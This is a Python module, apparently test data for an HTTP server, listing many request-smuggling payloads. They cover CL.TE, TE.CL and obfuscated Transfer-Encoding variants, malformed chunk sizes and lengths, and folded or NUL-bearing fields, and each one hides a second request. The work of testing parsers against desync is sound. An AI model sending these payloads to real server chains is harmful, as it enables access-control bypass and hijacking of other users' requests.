"""Requests that hide another one, if two readers of HTTP disagree where the first one ends.

Source: RFC 9112, 5.2 (folded fields), 6.3 (lengths), 7.1 (chunks) and 11.2 (request smuggling).
"""

NEXT = b"GET /v1/smuggled HTTP/1.1\r\nHost: x\r\n\r\n"
POST = b"POST /v1/size-conductor HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
ZERO = b"0\r\n\r\n"
ATTACKS = {
    "CL.TE": POST
    + b"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n" % len(ZERO + NEXT)
    + ZERO
    + NEXT,
    "TE.CL": POST
    + b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n%x\r\n" % len(NEXT)
    + NEXT
    + b"\r\n"
    + ZERO,
    "two lengths": POST + b"Content-Length: 0\r\nContent-Length: %d\r\n\r\n" % len(NEXT) + NEXT,
    "a list of lengths": POST + b"Content-Length: 0, %d\r\n\r\n" % len(NEXT) + NEXT,
    "a signed length": POST + b"Content-Length: +%d\r\n\r\n" % len(NEXT) + NEXT,
    "a length with a blank in its name": POST + b"Content-Length : %d\r\n\r\n" % len(NEXT) + NEXT,
    "two codings": POST
    + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n"
    + ZERO
    + NEXT,
    "a coding in disguise": POST
    + b"Transfer-Encoding: xchunked\r\nContent-Length: %d\r\n\r\n" % len(NEXT)
    + NEXT,
    "a coding behind a tab": POST
    + b"Transfer-Encoding:\x0bchunked\r\nContent-Length: %d\r\n\r\n" % len(ZERO + NEXT)
    + ZERO
    + NEXT,
    "a coding folded": POST
    + b"Content-Length: %d\r\nTransfer-Encoding:\r\n chunked\r\n\r\n" % len(ZERO + NEXT)
    + ZERO
    + NEXT,
    "a field folded": POST + b"X-Folded: a\r\n b\r\nContent-Length: %d\r\n\r\n" % len(NEXT) + NEXT,
    "a chunk extension": POST
    + b'Transfer-Encoding: chunked\r\n\r\n%x;a="' % len(NEXT)
    + b"b" * 50
    + b'"\r\n'
    + NEXT
    + b"\r\n"
    + ZERO,
    "a chunk extension with a bare line feed": POST
    + b"Transfer-Encoding: chunked\r\n\r\n%x;\n" % len(NEXT)
    + NEXT
    + b"\r\n"
    + ZERO,
    "a chunk size too large": POST
    + b"Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n"
    + NEXT,
    "a trailer": POST
    + b"Transfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\nContent-Length: %d\r\n\r\n" % len(NEXT),
}

CHUNKED = b"Transfer-Encoding: chunked\r\n"
LENGTH = b"Content-Length: %d\r\n" % len(ZERO + NEXT)


def _coded(field: bytes) -> bytes:
    """Return CL.TE with the coding under a field that one reader may take and another not."""
    return POST + LENGTH + field + b"\r\n" + ZERO + NEXT


def _chunk(start: bytes, end: bytes = b"\r\n") -> bytes:
    """Return a body whose first chunk hides a request, begun and ended in its own way."""
    return POST + CHUNKED + b"\r\n" + start + NEXT + end + ZERO


def _sized(length: bytes) -> bytes:
    return POST + b"Content-Length:" + length + b"\r\n\r\n" + NEXT


_SIZE = b"%x" % len(NEXT)
# Forms in which these were found in servers: how a coding hides, how a chunk begins and ends, how a
# length is written, how lines and names end.
ATTACKS |= {
    "TE.TE, an unknown coding first": _coded(b"Transfer-Encoding: x, chunked\r\n"),
    "TE.TE, an unknown coding last": _coded(b"Transfer-Encoding: chunked, x\r\n"),
    "TE.TE, a second field": _coded(CHUNKED + b"Transfer-Encoding: x\r\n"),
    "TE.TE, chunked twice": _coded(b"Transfer-Encoding: chunked, chunked\r\n"),
    "TE.TE, identity": _coded(b"Transfer-Encoding: identity\r\n"),
    "TE.TE, quoted": _coded(b'Transfer-Encoding: "chunked"\r\n'),
    "TE.TE, with a parameter": _coded(b"Transfer-Encoding: chunked;x=1\r\n"),
    "TE.TE, a blank before the colon": _coded(b"Transfer-Encoding : chunked\r\n"),
    "TE.TE, a blank before the name": _coded(b" Transfer-Encoding: chunked\r\n"),
    "TE.TE, a NUL behind": _coded(b"Transfer-Encoding: chunked\0\r\n"),
    "TE.TE, an empty element": _coded(b"Transfer-Encoding: ,chunked\r\n"),
    "TE.TE, behind a bare line feed": _coded(b"X: x\nTransfer-Encoding: chunked\r\n"),
    "TE.TE, behind a bare carriage return": _coded(b"X: x\rTransfer-Encoding: chunked\r\n"),
    "TE.TE, an underscore in the name": _coded(b"Transfer_Encoding: chunked\r\n"),
    "a chunk size with a sign": _chunk(b"+" + _SIZE + b"\r\n"),
    "a chunk size below zero": _chunk(b"-1\r\n"),
    "a chunk size with 0x": _chunk(b"0x" + _SIZE + b"\r\n"),
    "a chunk size with an underscore": _chunk(_SIZE[:1] + b"_" + _SIZE[1:] + b"\r\n"),
    "a chunk size behind blanks": _chunk(b"  " + _SIZE + b"\r\n"),
    "a chunk size before a blank": _chunk(_SIZE + b" x\r\n"),
    "a chunk size of none": _chunk(b"\r\n"),
    "a chunk size behind a bare line feed": _chunk(_SIZE + b"\n"),
    "a chunk size behind a bare carriage return": _chunk(_SIZE + b"\r"),
    "a chunk that ends in a bare line feed": _chunk(_SIZE + b"\r\n", b"\n"),
    "a chunk that ends in anything": _chunk(_SIZE + b"\r\n", b"xx"),
    "a chunk without an end": _chunk(_SIZE + b"\r\n", b""),
    "a chunk extension with a carriage return": _chunk(_SIZE + b";a\rb\r\n"),
    "a trailer that is a request": POST + CHUNKED + b"\r\n2\r\n{}\r\n0\r\n" + NEXT,
    "a length below zero": _sized(b" -1"),
    "a length with 0x": _sized(b" 0x%x" % len(NEXT)),
    "a length with an underscore": _sized(b" 1_0"),
    "a length with a point": _sized(b" %d.0" % len(NEXT)),
    "a length in other digits": _sized(" \u0661".encode()),
    "a length of two words": _sized(b" 0 %d" % len(NEXT)),
    "a length and a comma": _sized(b" %d," % len(NEXT)),
    "a length too large": _sized(b" 99999999999999999999999999"),
    "two equal lengths and a third": POST
    + b"Content-Length: %d\r\n" % len(NEXT) * 2
    + b"Content-Length: 0\r\n\r\n"
    + NEXT,
    "a length folded": _sized(b"\r\n %d" % len(NEXT)),
    "a name with a NUL": POST + b"X\0: a\r\nContent-Length: %d\r\n\r\n" % len(NEXT) + NEXT,
    "a line without a colon": POST + b"GET /v1/smuggled HTTP/1.1\r\n\r\n",
}
